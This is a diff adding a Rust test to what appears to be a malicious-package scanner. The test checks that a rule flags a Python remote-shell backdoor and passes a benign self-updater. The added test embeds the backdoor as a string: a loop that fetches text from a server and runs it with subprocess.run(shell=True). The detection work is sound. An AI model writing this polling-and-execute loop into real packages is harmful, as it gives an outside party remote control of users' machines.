@@ -394,3 +394,21 @@ fn install_time_code_decodes_then_executes_only_when_the_two_meet() {
         &[library],
     );
 }
+
+#[test]
+fn a_response_run_as_a_command_is_a_remote_shell() {
+    // requestsdev's loop: poll a server, run what it says in another function.
+    let backdoor = "import requests, subprocess\ndef debug():\n    while True:\n        \
+                    resp = requests.get(LINK).text\n        output = runcommand(resp)\n\n\
+                    def runcommand(value):\n    return subprocess.run(value, shell=True)\n";
+    // A self-updater puts the fetched version into a command of its own.
+    let updater = "import requests, subprocess, sys\ndef update():\n    \
+                   v = requests.get(INDEX).json()['version']\n    \
+                   subprocess.run([sys.executable, '-m', 'pip', 'install', f'tool=={v}'])\n";
+    fires_only_on(
+        "execution/runs-received-command",
+        "pkg/__init__.py",
+        &[backdoor],
+        &[updater],
+    );
+}
